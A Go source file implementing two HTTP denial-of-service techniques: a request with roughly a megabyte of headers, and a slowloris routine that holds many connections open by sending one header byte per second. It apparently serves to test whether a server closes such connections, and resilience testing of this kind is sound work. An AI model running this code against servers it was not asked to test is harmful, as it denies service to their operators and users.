package main

import (
	"bufio"
	"context"
	"fmt"
	"net"
	"net/http"
	"strings"
	"sync"
	"time"
)

// patience is how long a connection, and an answer, may take.
const patience = 10 * time.Second

// dial opens a connection that lasts somewhat longer than ctx: what ends before is not
// ended by its deadline.
func (a attack) dial(ctx context.Context) (net.Conn, error) {
	conn, err := (&net.Dialer{Timeout: patience}).DialContext(ctx, "tcp", a.address)
	if err != nil {
		return nil, err
	}
	deadline, _ := ctx.Deadline()
	return conn, conn.SetDeadline(deadline.Add(time.Second))
}

// header sends a request of which the header has a megabyte.
func (a attack) header(ctx context.Context, _ int) (report, error) {
	conn, err := a.dial(ctx)
	if err != nil {
		return report{}, err
	}
	defer conn.Close()
	r := report{}
	go func() {
		// The server may end it at any time.
		_, _ = fmt.Fprintf(conn, "GET / HTTP/1.1\r\nHost: %s\r\n", a.host)
		for i := range 1024 {
			_, _ = fmt.Fprintf(conn, "X-Field-%d: %s\r\n", i, strings.Repeat("a", 1024))
		}
		_, _ = fmt.Fprint(conn, "\r\n")
	}()
	answer, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		r.Closed++ // and what it said, if anything, went with what it had not read
		return r, nil
	}
	defer answer.Body.Close()
	r.Status = answer.StatusCode
	if answer.Close {
		r.Closed++
	}
	return r, nil
}

// slow opens connections on each of which a header comes a byte a second (slowloris).
func (a attack) slow(ctx context.Context, count int) (report, error) {
	var mu sync.Mutex
	var running sync.WaitGroup
	r := report{}
	for range count {
		conn, err := a.dial(ctx)
		if err != nil {
			return r, err
		}
		r.Sent++
		running.Go(func() {
			defer conn.Close()
			if a.drip(ctx, conn) {
				mu.Lock()
				r.Closed++
				mu.Unlock()
			}
		})
	}
	running.Wait()
	return r, nil
}

// drip sends a byte a second, and tells whether the server ended that before ctx did.
func (a attack) drip(ctx context.Context, conn net.Conn) (closed bool) {
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		_, _ = conn.Read(make([]byte, 1))
	}()
	tick := time.NewTicker(time.Second)
	defer tick.Stop()
	for text := "GET / HTTP/1.1\r\nHost: " + a.host + "\r\nX-Slow: "; ; text = "a" {
		if _, err := conn.Write([]byte(text)); err != nil {
			return ctx.Err() == nil
		}
		select {
		case <-ended:
			return ctx.Err() == nil
		case <-ctx.Done():
			return false
		case <-tick.C:
		}
	}
}
